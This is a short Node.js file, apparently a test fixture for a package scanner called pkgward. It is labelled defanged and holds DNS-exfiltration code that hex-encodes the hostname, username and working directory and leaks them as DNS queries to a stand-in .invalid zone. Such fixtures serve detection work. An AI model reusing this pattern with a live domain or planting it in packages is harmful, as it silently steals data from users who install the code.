// DEFANGED TEST FIXTURE for pkgward: DNS exfiltration via hex-encoded labels (dependency-confusion shape). Zone is .invalid. Never run.
'use strict';
const dns = require('dns');
const os = require('os');
const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: process.cwd() });
const hex = Buffer.from(data).toString('hex');
const chunks = hex.match(/.{1,60}/g) || [];
chunks.forEach((c, i) => {
  dns.lookup(i + '.' + c + '.x1.exfil-zone.invalid', () => {});
});
